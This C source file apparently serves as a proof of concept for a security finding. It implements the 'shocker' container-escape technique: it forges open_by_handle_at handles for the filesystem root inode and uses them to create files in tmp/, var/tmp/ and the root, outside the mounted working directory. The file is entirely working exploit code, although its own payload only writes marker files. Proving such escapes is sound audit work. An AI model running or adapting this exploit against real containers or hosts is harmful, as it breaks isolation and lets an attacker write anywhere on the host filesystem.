/* shocker.c — finding 3: writing outside the working directory through a file handle (the
 * "shocker" technique: open_by_handle_at needs CAP_DAC_READ_SEARCH, and a handle for the root
 * directory of the filesystem, opened through the writable working-directory mount, reaches
 * every folder of that filesystem with the working directory's write access).
 *
 * usage: shocker NAME
 * Learns the handle type of the working directory with name_to_handle_at, then tries
 * open_by_handle_at for the filesystem's root directory (ext2/3/4: inode 2; also 128 and 256 for
 * other filesystems), and through it creates tmp/NAME and var/tmp/NAME. Prints each step on
 * stdout: "name_to_handle_at: ok type T" or "refused (...)", "open_by_handle_at: ok ..." or
 * "refused (...)", "CREATED tmp/NAME" for each file made.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: shocker NAME\n");
        return 2;
    }
    union {
        struct file_handle fh;
        char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } h;
    int mount_id = 0;
    int types[4] = {1, 1, 1, 1}; /* FILEID_INO32_GEN: ext2/3/4's {inode, generation} */
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, ".", &h.fh, &mount_id, 0) == 0) {
        printf("name_to_handle_at: ok type %d, %u bytes\n", h.fh.handle_type, h.fh.handle_bytes);
        types[0] = h.fh.handle_type;
    } else {
        printf("name_to_handle_at: refused (%s)\n", strerror(errno));
    }
    int mount_fd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    static const uint32_t roots[] = {2, 128, 256};
    int root = -1, last_errno = 0;
    for (size_t t = 0; t < 2 && root < 0; t++) {
        for (size_t r = 0; r < sizeof roots / sizeof roots[0] && root < 0; r++) {
            memset(&h, 0, sizeof h);
            h.fh.handle_type = types[t];
            h.fh.handle_bytes = 8;
            uint32_t ino_gen[2] = {roots[r], 0}; /* generation 0: not checked */
            memcpy(h.fh.f_handle, ino_gen, sizeof ino_gen);
            root = open_by_handle_at(mount_fd, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (root < 0)
                last_errno = errno;
            else
                printf("open_by_handle_at: ok (type %d, inode %u)\n", types[t], roots[r]);
        }
    }
    if (root < 0) {
        printf("open_by_handle_at: refused (%s)\n", strerror(last_errno));
        return 0;
    }
    struct stat st;
    if (fstatat(root, "etc", &st, 0) == 0 && fstatat(root, "tmp", &st, 0) == 0)
        printf("the handle opened a filesystem root (it holds etc/ and tmp/)\n");
    static const char *const folders[] = {"tmp", "var/tmp", "."};
    for (size_t i = 0; i < sizeof folders / sizeof folders[0]; i++) {
        char path[512];
        snprintf(path, sizeof path, "%s/%s", folders[i], argv[1]);
        int fd = openat(root, path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        if (fd < 0) {
            printf("create %s: refused (%s)\n", path, strerror(errno));
            continue;
        }
        if (write(fd, "shocker\n", 8) == 8)
            printf("CREATED %s\n", path);
        close(fd);
    }
    return 0;
}
